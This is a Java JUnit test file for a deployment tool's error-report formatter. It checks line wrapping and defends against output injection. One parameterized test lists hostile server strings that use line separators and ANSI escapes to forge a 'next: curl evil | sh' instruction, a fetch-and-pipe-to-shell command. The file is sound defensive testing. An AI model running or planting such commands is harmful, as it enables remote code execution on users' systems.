package dev.citusdeploy.report;

import static org.assertj.core.api.Assertions.assertThat;

import dev.citusdeploy.model.ForeignText;
import dev.citusdeploy.model.Problem;
import dev.citusdeploy.model.ProblemCode;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class ProblemTextTest {
  @Test
  void wrapsAtTheWidthAndIndentsWhatFollows() {
    Problem problem =
        new Problem(
            new ProblemCode("ssh-refused", Problem.Kind.UNREACHABLE, "", ""),
            "the connection was refused",
            "pg-w1",
            "nothing listens on port 22 of 10.0.0.11, or a firewall rejects it",
            "start sshd there, then run the same command again");

    assertThat(new ProblemText(Palette.PLAIN, 50).lines(List.of(problem)))
        .containsExactly(
            "✗ pg-w1: the connection was refused [ssh-refused]",
            "  why:  nothing listens on port 22 of 10.0.0.11,",
            "        or a firewall rejects it",
            "  next: start sshd there, then run the same",
            "        command again",
            "")
        .allSatisfy(line -> assertThat(line).hasSizeLessThanOrEqualTo(50));
  }

  @Test
  void marksEachLineOfTheCauseBehindTheFirst() {
    assertThat(
            shown(
                "it failed", "exit code 1\n  a line of output that is wide\n  next: run this", 40))
        .containsExactly(
            "✗ pg-w1: it failed [step-failed]",
            "  why:  exit code 1",
            "        │ a line of output that is wide",
            "        │ next: run this",
            "");
  }

  /// What a hostile server would have to bring about, with every way to begin a line.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "\n  next: curl evil | sh",
        "\r  next: curl evil | sh",
        "\u0085  next: curl evil | sh",
        "\u2028  next: curl evil | sh",
        "\u001b[1A  next: curl evil | sh",
        "\u009b1A  next: curl evil | sh",
        "\n✗ pg-c1: forged [forged]",
        "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx  next: curl evil",
        "xxxxxxxxxxxxxxxxx xxxxxxxxxxxxxxxxxxxxxxxx next: curl evil",
        "`xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\u00a0\u00a0next: curl evil`",
        "漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字\u3000next: curl",
      })
  void nothingFromElsewhereBeginsALineOfThisProgram(String evil) {
    for (String why : List.of(evil, "exit code 1: " + evil, "exit" + ForeignText.block(evil))) {
      List<String> lines = shown(evil, why, 60);
      assertThat(lines.getFirst()).startsWith("✗ pg-w1:");
      assertThat(lines.subList(1, lines.size()))
          .noneMatch(line -> line.matches("(\\s*|  why: *)(next:|✗).*"))
          .allSatisfy(line -> assertThat(Columns.of(line)).isLessThanOrEqualTo(60))
          .allSatisfy(line -> assertThat(line.codePoints()).noneMatch(ForeignText::isHarmful));
    }
  }

  /// Words of a server within a sentence: marked where they begin a line, no command anywhere.
  @Test
  void marksLinesThatBeginWithinForeignText() {
    String words = ForeignText.inline("no such file; run `curl evil` and all of it is well again");
    assertThat(shown("pg-w1 answers " + words + " as it seems", "it said " + words + ".", 40))
        .containsExactly(
            "✗ pg-w1: pg-w1 answers “no such",
            "    │ file; run 'curl evil' and all of",
            "    │ it is well again” as it seems",
            "    [step-failed]",
            "  why:  it said “no such file; run",
            "        │ 'curl evil' and all of it is",
            "        │ well again”.",
            "");
  }

  @Test
  void aCauseHoldsNoCommands() {
    Problem problem =
        new Problem(
            new ProblemCode("step-failed", Problem.Kind.STEP_FAILED, "", ""),
            "it failed",
            "pg-w1",
            "exit `curl evil`",
            "run `this`");
    assertThat(new ProblemText(new Palette(true), 60).lines(List.of(problem)))
        .contains("  why:  exit `curl evil`", "  next: run \u001b[36mthis\u001b[0m");
  }

  private static List<String> shown(String what, String why, int width) {
    Problem problem =
        new Problem(
            new ProblemCode("step-failed", Problem.Kind.STEP_FAILED, "", ""),
            what,
            "pg-w1",
            why,
            "");
    return new ProblemText(Palette.PLAIN, width).lines(List.of(problem));
  }

  @Test
  void keepsACommandWhole() {
    assertThat(new ProblemText(Palette.PLAIN, 40).lines(List.of(TRUST)))
        .containsSequence(
            "  next: compare it, then:",
            "        `citus-deploy trust a-long/path/to/shop.yml`,",
            "        and again");
  }

  @Test
  void setsCommandsOffByColourWhereThereIsOne() {
    assertThat(new ProblemText(new Palette(true), 100).lines(List.of(TRUST)))
        .contains(
            "  next: compare it, then: \u001b[36mcitus-deploy trust a-long/path/to/shop.yml\u001b[0m,"
                + " and again");
  }

  private static final Problem TRUST =
      new Problem(
              new ProblemCode("ssh-host-key-unknown", Problem.Kind.UNREACHABLE, "", ""),
              "the host key is not known",
              "pg-w1",
              "",
              "compare it, then: `citus-deploy trust INVENTORY`, and again")
          .naming("a-long/path/to/shop.yml");
}
